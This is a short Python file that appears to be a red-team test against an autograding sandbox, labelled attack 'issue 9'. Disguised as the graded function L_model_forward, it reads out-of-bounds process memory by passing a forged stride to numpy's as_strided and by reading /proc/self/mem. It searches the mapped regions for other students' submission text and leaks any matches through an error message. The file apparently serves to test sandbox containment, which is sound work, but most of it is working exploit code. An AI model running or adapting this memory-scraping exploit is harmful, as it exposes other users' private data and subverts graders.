# RED-TEAM ATTACK (issue 9): read the process's memory out of bounds, looking for other students' work.
# Route: numpy.lib.stride_tricks.as_strided with a stride that points anywhere (the mapped regions
#   come from /proc/self/maps when it is there, else the neighbourhood of a fresh array), and
#   /proc/self/mem; the fork server decoded every earlier submission's source, and freed memory is
#   not wiped. What follows the honest submissions' "honest-canary-" line is carried out in the error.
# Contained when: no other submission's text reaches the report, and L_model_forward scores 0.
# attacked: L_model_forward
# run: batch
import numpy as np
from numpy.lib.stride_tricks import as_strided

LEAK = "REDTEAM" + "-LEAK: "
NEEDLE = b"honest" + b"-canary-"


def _regions():
    try:
        with open("/proc/self/maps") as maps:
            for line in maps:
                fields = line.split()
                if fields[1].startswith("r") and not line.rstrip().endswith(("[vvar]", "[vsyscall]", "[vdso]")):
                    start, end = (int(x, 16) for x in fields[0].split("-"))
                    if end - start <= 1 << 28:
                        yield start, end
    except OSError:
        here = np.zeros(1 << 16, np.uint8).__array_interface__["data"][0]
        yield here & ~0xFFF, (here & ~0xFFF) + (1 << 16)


def _read(address, size):
    anchor = np.zeros(1, np.uint8)
    base = anchor.__array_interface__["data"][0]
    view = as_strided(anchor, shape=(2, size), strides=(address - base, 1))
    return view[1].tobytes()


def _scan(reader):
    found = set()
    for start, end in _regions():
        try:
            data = reader(start, end - start)
        except Exception:
            continue
        at = data.find(NEEDLE)
        while at >= 0 and len(found) < 8:
            found.add(data[at:at + 60].split(b"\n")[0].decode("ascii", "replace"))
            at = data.find(NEEDLE, at + 1)
    return found


def _proc_mem(address, size):
    with open("/proc/self/mem", "rb") as mem:
        mem.seek(address)
        return mem.read(size)


def L_model_forward(X, parameters):
    found = _scan(_read) | _scan(_proc_mem)
    if found:
        raise RuntimeError(LEAK + "other submissions in memory: " + " | ".join(sorted(found)))
    raise RuntimeError("nothing found in memory")
